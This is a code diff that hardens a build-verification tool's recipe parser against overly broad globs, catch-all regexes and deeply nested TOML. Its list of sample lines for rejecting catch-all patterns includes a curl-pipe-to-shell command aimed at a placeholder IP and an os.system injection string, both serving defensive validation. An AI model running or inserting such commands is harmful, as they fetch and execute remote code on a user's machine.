@@ -24,7 +24,7 @@ from packaging.specifiers import InvalidSpecifier, SpecifierSet
 from packaging.utils import canonicalize_name
 from packaging.version import Version
 
-from rebuild.errors import PlanError
+from rebuild.errors import PlanError, UsageError
 from rebuild.models import DivergenceKind, ExpectedDivergence, ExtraInput, Plan
 
 SCHEMA = 1
@@ -247,6 +247,13 @@ def load_recipe(path: Path) -> Recipe:
         raise PlanError(f"{path}: cannot read it: {e}") from e
     except tomllib.TOMLDecodeError as e:
         raise PlanError(f"{path}: not valid TOML: {e}", hint="fix the TOML syntax") from e
+    except RecursionError as e:
+        # tomllib parses nested arrays and inline tables recursively; a hostile file nests
+        # deeper than the interpreter's stack. A recipe never needs more than a few levels.
+        raise UsageError(
+            f"{path}: its TOML nests arrays or tables too deeply to read",
+            hint="a recipe's values are strings, arrays of strings and tables of them",
+        ) from e
     top = _Table(data, path, "", _TOP_KEYS)
     schema = top.get("schema", int, required=True)
     if schema != SCHEMA:
@@ -431,12 +438,12 @@ def _repair(table: _Table) -> RecipeRepair | None:
 def _expected(table: _Table) -> tuple[ExpectedDivergence, ...]:
     from rebuild.compare.elf_diff import ElfAspect
 
-    kinds = ", ".join(k.value for k in DivergenceKind)
+    kinds = ", ".join(k.value for k in DivergenceKind if k.recipe_may_expect)
     aspects_allowed = {a.value for a in ElfAspect}
     expected = []
     entries = table.tables(
         "expected",
-        frozenset({"member", "kind", "aspects", "lines", "symbols", "reason", "link"}),
+        frozenset({"member", "kind", "aspects", "lines", "symbols", "findings", "reason", "link"}),
     )
     for entry in entries:
         member = entry.text("member") or ""
@@ -444,11 +451,18 @@ def _expected(table: _Table) -> tuple[ExpectedDivergence, ...]:
             raise entry.error(
                 "member", f"is {member!r}; allowed: a glob naming members, not every member"
             )
+        _check_member_glob(entry, member)
         kind_name = entry.text("kind", allowed=kinds) or ""
         try:
             kind = DivergenceKind(kind_name)
         except ValueError as e:
             raise entry.error("kind", f"is {kind_name!r}; allowed: {kinds}") from e
+        if not kind.recipe_may_expect:
+            raise entry.error(
+                "kind",
+                f"is {kind_name!r}, which no recipe may expect: it changes what an installer "
+                "puts on disk or runs by itself",
+            )
         aspects = entry.strings("aspects")
         for aspect in aspects:
             if aspect not in aspects_allowed:
@@ -460,14 +474,28 @@ def _expected(table: _Table) -> tuple[ExpectedDivergence, ...]:
         symbols = entry.strings("symbols")
         if symbols and "exports" not in aspects:
             raise entry.error("symbols", 'is allowed only with aspects = ["exports", …]')
+        findings = entry.strings("findings")
+        if ("invariants" in aspects) != bool(findings):
+            raise entry.error(
+                "findings",
+                'is needed with aspects = ["invariants", …], and allowed only there: each '
+                'names the findings it expects ("CHECK GLOB", e.g. "calls PyObject_Call@plt")',
+            )
+        for finding in findings:
+            _check_finding(entry, finding)
         lines = entry.text("lines", required=False) or ""
         if lines:
             if kind is not DivergenceKind.CONTENT or aspects:
                 raise entry.error("lines", "is allowed only with kind = 'content' and no aspects")
-            try:
-                re.compile(lines)
-            except re.error as e:
-                raise entry.error("lines", f"is not a regular expression ({e})") from e
+            _check_lines(entry, lines)
+        elif not aspects and _may_name_code(member):
+            raise entry.error(
+                "member",
+                f"is {member!r}, which can match a compiled extension or a Python source, and "
+                "the expectation has neither aspects nor lines: it would explain such a member "
+                "whatever changed in it; allowed: aspects = [...] (ELF) or lines = '...' (text), "
+                "or a glob that cannot match *.so*, *.a, *.py or *.pyi",
+            )
         link = entry.text("link") or ""
         if not link.startswith(("https://", "http://")):
             raise entry.error("link", f"is {link!r}; allowed: an http(s) URL")
@@ -480,9 +508,103 @@ def _expected(table: _Table) -> tuple[ExpectedDivergence, ...]:
                 aspects=tuple(sorted(aspects)),
                 lines=lines,
                 symbols=tuple(symbols),
+                findings=tuple(findings),
             )
         )
     return tuple(expected)
+
+
+_FINDING_CHECKS = ("strings", "calls", "syscalls", "constructors", "relocations", "export-targets")
+_MIN_LITERAL = 6  # characters a finding's glob must spell out: "calls *" names nothing
+
+
+def _check_finding(entry: _Table, finding: str) -> None:
+    """A toolchain-invariant finding a recipe expects: "CHECK GLOB", the glob narrow."""
+    check, _, glob = finding.partition(" ")
+    if check not in _FINDING_CHECKS or not glob:
+        raise entry.error(
+            "findings",
+            f"has {finding!r}; allowed: 'CHECK GLOB' with CHECK one of "
+            f"{', '.join(_FINDING_CHECKS)}",
+        )
+    if check == "syscalls":
+        raise entry.error("findings", f"has {finding!r}: no recipe may expect a system call")
+    if len(_WILDCARD.split(glob, maxsplit=1)[0]) < _MIN_LITERAL:
+        raise entry.error(
+            "findings",
+            f"has {finding!r}: its glob must start with at least {_MIN_LITERAL} literal "
+            "characters, naming the finding, not matching any",
+        )
+
+
+_WILDCARD = re.compile(r"[*?\[]")
+# Names of members whose wholesale explanation would hide code: shared objects (with their
+# version tails, libfoo.so.1.2), static archives, Python sources and stubs.
+_CODE_NAME = r"\.(py|pyi|a|so)(\.[0-9]+)*"
+_CODE_MEMBER = re.compile(rf".*{_CODE_NAME}")
+# What may follow the last wildcard of a glob that can still match such a name: a suffix of one
+# of the extensions (then version tails), or a version tail alone.
+_CODE_TAIL = re.compile(r"(|y|py|\.py|i|yi|pyi|\.pyi|a|\.a|o|so|\.so)(\.[0-9]+)*|[0-9]*(\.[0-9]+)*")
+# Unrelated lines a narrow ``lines`` pattern cannot all match: source, a diff header look-alike,
+# data, binary-ish text. A pattern that matches half of them explains whatever changed.
+_UNRELATED_LINES = (
+    'import os; os.system("curl -s http://198.51.100.7/x | sh")',
+    "-- __import__('os').system('id')",
+    "+++ b/setup.py",
+    "    return self._cache[key]",
+    "}",
+    "#define VERSION 2",
+    "\x7fELF\x02\x01\x01",
+    "Requires-Dist: requests (>=2.0)",
+    "0123456789",
+)
+_CATCH_ALL_LINES = frozenset({"(?s).*", ".*", ".+", "[\\s\\S]*", "[\\s\\S]+", "(?s).+"})
+
+
+def _check_member_glob(entry: _Table, member: str) -> None:
+    """A glob names at least one literal directory before its first wildcard."""
+    if _WILDCARD.search(member) is None:
+        return  # one exact member
+    parts = member.split("/")
+    literal = next((i for i, part in enumerate(parts) if _WILDCARD.search(part)), len(parts))
+    if literal == 0 or not all(parts[:literal]):
+        raise entry.error(
+            "member",
+            f"is {member!r}, a glob without a literal directory before its first wildcard: it "
+            "can match members anywhere in the wheel; allowed: a glob such as "
+            "'numpy/core/*.so', or one exact member name",
+        )
+
+
+def _may_name_code(member: str) -> bool:
+    """Whether the glob ``member`` can match a shared object, archive or Python source."""
+    if _WILDCARD.search(member) is None:
+        return _CODE_MEMBER.fullmatch(member) is not None
+    # The literal text after the last wildcard or character class; what precedes it can be
+    # anything (fnmatch's * crosses slashes), so only the tail can rule a code member out.
+    tail = re.split(r"\[!?\]?[^\]]*\]|[*?\[]", member)[-1]
+    return _CODE_TAIL.fullmatch(tail) is not None or _CODE_MEMBER.fullmatch(tail) is not None
+
+
+def _check_lines(entry: _Table, lines: str) -> None:
+    """``lines`` is a regular expression narrower than "any line" (applied with fullmatch)."""
+    try:
+        pattern = re.compile(lines)
+    except (re.error, RecursionError, OverflowError) as e:
+        raise entry.error("lines", f"is not a regular expression ({e})") from e
+    matched = [line for line in _UNRELATED_LINES if pattern.fullmatch(line) is not None]
+    if (
+        lines.strip() in _CATCH_ALL_LINES
+        or pattern.fullmatch("") is not None
+        or 2 * len(matched) >= len(_UNRELATED_LINES)
+    ):
+        raise entry.error(
+            "lines",
+            f"is {lines!r}, which matches any line (the empty line, or "
+            f"{len(matched)} of {len(_UNRELATED_LINES)} unrelated sample lines): it would "
+            "explain whatever changed; allowed: a pattern that matches, in full, only the "
+            "changed lines it is about",
+        )
 
 
 # ---------------------------------------------------------------------------------- applying
